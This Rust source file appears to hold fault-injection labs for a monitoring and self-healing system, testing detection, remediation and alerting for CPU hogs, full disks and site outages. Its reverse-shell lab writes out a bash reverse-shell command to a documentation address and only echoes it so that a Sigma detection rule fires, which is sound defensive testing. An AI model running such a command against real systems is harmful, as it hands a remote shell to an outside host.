//! The labs.

use std::path::PathBuf;
use std::time::Duration;

use anyhow::{Context, Result, bail};
use serde_json::{Value, json};

use crate::api::Instance;
use crate::fault::{Fill, Frozen, Hog, used};
use crate::timeline::Timeline;

/// Name and purpose of each.
pub(crate) const ALL: [(&str, &str); 7] = [
    (
        "runaway-process",
        "a busy loop in the demonstration's control group is throttled",
    ),
    ("disk-fill", "the demonstration's filesystem is filled and freed"),
    (
        "reverse-shell-pattern",
        "a harmless command line that a Sigma rule knows",
    ),
    ("site-down", "the demonstration's site stops answering"),
    (
        "unknown-site",
        "our own resolver stops answering: nobody else's fault",
    ),
    (
        crate::benign::NAME,
        "work of every day: packages, builds, backups, logins; raises nothing above low",
    ),
    (
        crate::chaos::NAME,
        "agents and a collector of its own through kills, cuts, full disks and clocks, and a count",
    ),
];

/// Longest wait for a finding.
const DETECT: Duration = Duration::from_secs(45);
/// Longest wait for the ending of a transaction.
const HEAL: Duration = Duration::from_secs(60);
/// Longest wait for an alert.
const ALERT: Duration = Duration::from_secs(30);

/// Runs one.
pub(crate) async fn run(name: &str, instance: &Instance) -> Result<Timeline> {
    match name {
        "runaway-process" => runaway_process(instance).await,
        "disk-fill" => disk_fill(instance).await,
        "reverse-shell-pattern" => reverse_shell_pattern(instance).await,
        "site-down" => site_down(instance).await,
        "unknown-site" => unknown_site(instance).await,
        _ => bail!("there is no lab {name:?}; `cargo xtask lab list` names them"),
    }
}

async fn runaway_process(instance: &Instance) -> Result<Timeline> {
    let mut timeline = Timeline::new("runaway-process");
    let hog = Hog::start(&instance.text("demo_cgroup")?)?;
    timeline.step(
        "injected",
        json!({"pid": hog.pid(), "reason": "busy loop in the demonstration's control group"}),
    );
    let condition = format!(
        "rule = 'runaway-process' and pid = {} and time >= '{}'",
        hog.pid(),
        timeline.since_sql()
    );
    let Some(finding) = detected(instance, &mut timeline, &condition).await? else {
        return Ok(timeline);
    };
    let ending = transaction(instance, &mut timeline, &finding).await?;
    if observe_only(instance) {
        observed(&mut timeline, ending.as_deref(), used_cpu(&hog).await? > 50.0);
        return Ok(timeline);
    }
    timeline.check(
        "the transaction ended healed",
        ending.as_deref() == Some("healed"),
    );
    let after = used_cpu(&hog).await?;
    timeline.step(
        "measured",
        json!({"reason": format!("the lab's own measurement: {after:.0} % of a core")}),
    );
    timeline.check("the busy loop uses less than 50 % of a core", after < 50.0);
    no_alert(instance, &mut timeline, "runaway-process").await?;
    Ok(timeline)
}

async fn disk_fill(instance: &Instance) -> Result<Timeline> {
    let folder = PathBuf::from(instance.text("demo_disk")?);
    let mut timeline = Timeline::new("disk-fill");
    let before = used(&folder)?;
    let _fill = Fill::start(&folder, 93.0)?;
    let filled = used(&folder)?;
    timeline.step(
        "injected",
        json!({"reason": format!("{} filled from {before:.0} % to {filled:.0} %", folder.display())}),
    );
    let condition = format!(
        "rule = 'filesystem-full' and subject = '{}' and time >= '{}'",
        folder.display(),
        timeline.since_sql()
    );
    let Some(finding) = detected(instance, &mut timeline, &condition).await? else {
        return Ok(timeline);
    };
    let ending = transaction(instance, &mut timeline, &finding).await?;
    if observe_only(instance) {
        observed(&mut timeline, ending.as_deref(), used(&folder)? >= filled - 1.0);
        return Ok(timeline);
    }
    timeline.check(
        "the transaction ended healed",
        ending.as_deref() == Some("healed"),
    );
    let after = used(&folder)?;
    timeline.step(
        "measured",
        json!({"reason": format!("the lab's own measurement: {after:.0} % used")}),
    );
    timeline.check("the filesystem is less full than the limit", after < 90.0);
    no_alert(instance, &mut timeline, "filesystem-full").await?;
    Ok(timeline)
}

async fn reverse_shell_pattern(instance: &Instance) -> Result<Timeline> {
    let mut timeline = Timeline::new("reverse-shell-pattern");
    let line = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1";
    std::process::Command::new("/bin/echo")
        .arg(line)
        .stdout(std::process::Stdio::null())
        .status()
        .context("run echo")?;
    timeline.step(
        "injected",
        json!({"reason": format!("/bin/echo {line:?}: only the words, no connection")}),
    );
    let condition = format!(
        "kind = 'sigma' and title like '%Network Device File%' and time >= '{}'",
        timeline.since_sql()
    );
    // Run again within the quiet time it is the same finding, whose row came at the first run.
    let known = "kind = 'sigma' and title like '%Network Device File%' and state = 'open'";
    let query =
        |condition: &str| format!("select * from findings where {condition} order by time desc limit 1");
    let mut row = instance
        .wait_for_row(&query(&condition), Duration::from_secs(10))
        .await?;
    let mut name = "detected";
    if row.is_none() {
        name = "known from";
        row = instance.sql(&query(known)).await?.into_iter().next();
    }
    timeline.check(
        "the finding arrived, or is open from an earlier run",
        row.is_some(),
    );
    if let Some(row) = row {
        let techniques = row.get("techniques").map(ToString::to_string).unwrap_or_default();
        timeline.step(name, row);
        timeline.check(
            "it carries its ATT&CK technique T1059.004",
            techniques.contains("T1059.004"),
        );
    }
    Ok(timeline)
}

async fn site_down(instance: &Instance) -> Result<Timeline> {
    let mut timeline = Timeline::new("site-down");
    let interval = instance
        .record
        .get("site_interval_s")
        .and_then(Value::as_u64)
        .unwrap_or(5);
    let frozen = Frozen::start(instance.pid("site")?)?;
    timeline.step(
        "injected",
        json!({"reason": "the demonstration's web server is stopped"}),
    );
    let probes = format!(
        "site = 'demo-shop' and verdict = 'down' and time >= '{}'",
        timeline.since_sql()
    );
    // Two intervals, and the time a probe may take.
    let within = Duration::from_secs(2 * interval + 3);
    let row = instance
        .wait_for_row(
            &format!("select * from site_probes where {probes} limit 1"),
            within,
        )
        .await?;
    timeline.check("a probe found it down within two intervals", row.is_some());
    timeline.step("probed", row.unwrap_or(Value::Null));
    let condition = format!(
        "rule = 'site-down' and subject = 'demo-shop' and time >= '{}'",
        timeline.since_sql()
    );
    if detected(instance, &mut timeline, &condition).await?.is_none() {
        return Ok(timeline);
    }
    let about = |alert: &Value| alert.to_string().contains("demo-shop");
    let alert = instance.wait_for_alert(timeline.since(), ALERT, about).await?;
    timeline.check("it alerted", alert.is_some());
    if let Some(alert) = alert {
        timeline.check(
            "the alert's signature holds",
            alert.get("signed") == Some(&json!(true)),
        );
        timeline.step("alerted", alert);
    }
    tokio::time::sleep(Duration::from_secs(2 * interval)).await;
    let firing = instance.alerts(timeline.since(), |alert| about(alert) && is_firing(alert))?;
    timeline.check(
        format!("it alerted once ({} deliveries)", firing.len()),
        firing.len() == 1,
    );
    drop(frozen);
    timeline.step("restored", json!({"reason": "the web server goes on"}));
    let resolved = format!(
        "select * from findings where rule = 'site-down' and subject = 'demo-shop' and state = 'resolved' and time >= '{}' limit 1",
        timeline.since_sql()
    );
    let row = instance
        .wait_for_row(&resolved, Duration::from_secs(4 * interval))
        .await?;
    timeline.check("the finding is resolved when it answers again", row.is_some());
    Ok(timeline)
}

async fn unknown_site(instance: &Instance) -> Result<Timeline> {
    let mut timeline = Timeline::new("unknown-site");
    let interval = instance
        .record
        .get("site_interval_s")
        .and_then(Value::as_u64)
        .unwrap_or(5);
    let _frozen = Frozen::start(instance.pid("resolver")?)?;
    timeline.step("injected", json!({"reason": "our own resolver is stopped"}));
    let probes = format!(
        "site = 'demo-named' and verdict = 'unknown' and time >= '{}'",
        timeline.since_sql()
    );
    let row = instance
        .wait_for_row(
            &format!("select * from site_probes where {probes} limit 1"),
            Duration::from_secs(4 * interval),
        )
        .await?;
    timeline.check("the verdict is unknown", row.is_some());
    timeline.step("probed", row.unwrap_or(Value::Null));
    tokio::time::sleep(Duration::from_secs(4 * interval)).await;
    let down = format!(
        "select * from site_probes where site = 'demo-named' and verdict = 'down' and time >= '{}' limit 1",
        timeline.since_sql()
    );
    timeline.check("it was never called down", instance.sql(&down).await?.is_empty());
    let finding = format!(
        "select * from findings where subject = 'demo-named' and time >= '{}' limit 1",
        timeline.since_sql()
    );
    timeline.check("there is no finding", instance.sql(&finding).await?.is_empty());
    let alerts = instance.alerts(timeline.since(), |alert| {
        is_firing(alert) && alert.to_string().contains("demo-named")
    })?;
    timeline.check("nobody was alerted", alerts.is_empty());
    Ok(timeline)
}

fn is_firing(alert: &Value) -> bool {
    alert.pointer("/body/event").and_then(Value::as_str) == Some("firing")
}

async fn detected(instance: &Instance, timeline: &mut Timeline, condition: &str) -> Result<Option<Value>> {
    let query = format!("select * from findings where {condition} order by time limit 1");
    let row = instance.wait_for_row(&query, DETECT).await?;
    timeline.check("it was detected", row.is_some());
    if let Some(row) = &row {
        timeline.step("detected", row.clone());
    }
    Ok(row)
}

/// Follows the transaction of a finding to its ending; returns the ending.
async fn transaction(
    instance: &Instance,
    timeline: &mut Timeline,
    finding: &Value,
) -> Result<Option<String>> {
    let finding_id = finding
        .get("finding_id")
        .and_then(Value::as_str)
        .context("find the finding's id")?;
    let last = format!(
        "select * from actions where finding_id = '{finding_id}' and (stage = 'ended' or stage = 'refused' or stage = 'would_act') limit 1"
    );
    let row = instance.wait_for_row(&last, HEAL).await?;
    timeline.check("the transaction came to an end", row.is_some());
    let steps = instance
        .sql(&format!(
            "select * from actions where finding_id = '{finding_id}' order by ledger_index"
        ))
        .await?;
    for step in &steps {
        let name = match step.get("stage").and_then(Value::as_str).unwrap_or_default() {
            "proposed" => "planned",
            "applied" => "applied",
            "verified" => "verified",
            "ended" => "ended",
            "refused" => "refused",
            "would_act" => "would act",
            _ => "step",
        };
        timeline.step(name, step.clone());
    }
    Ok(row.and_then(|row| {
        row.get("ending")
            .and_then(Value::as_str)
            .or_else(|| row.get("stage").and_then(Value::as_str))
            .map(str::to_owned)
    }))
}

fn observe_only(instance: &Instance) -> bool {
    instance.record.get("observe_only") == Some(&json!(true))
}

fn observed(timeline: &mut Timeline, ending: Option<&str>, untouched: bool) {
    timeline.check("it says what it would have done", ending == Some("would_act"));
    timeline.check("nothing was done", untouched);
}

async fn used_cpu(hog: &Hog) -> Result<f64> {
    let window = Duration::from_secs(3);
    let before = hog.cpu_ticks()?;
    tokio::time::sleep(window).await;
    let spent = hog.cpu_ticks()?.saturating_sub(before) as f64;
    Ok(spent / 100.0 / window.as_secs_f64() * 100.0)
}

async fn no_alert(instance: &Instance, timeline: &mut Timeline, rule: &str) -> Result<()> {
    tokio::time::sleep(Duration::from_secs(3)).await;
    let firing = instance.alerts(timeline.since(), |alert| {
        is_firing(alert) && alert.to_string().contains(rule)
    })?;
    timeline.check("nobody was woken for what was healed", firing.is_empty());
    Ok(())
}
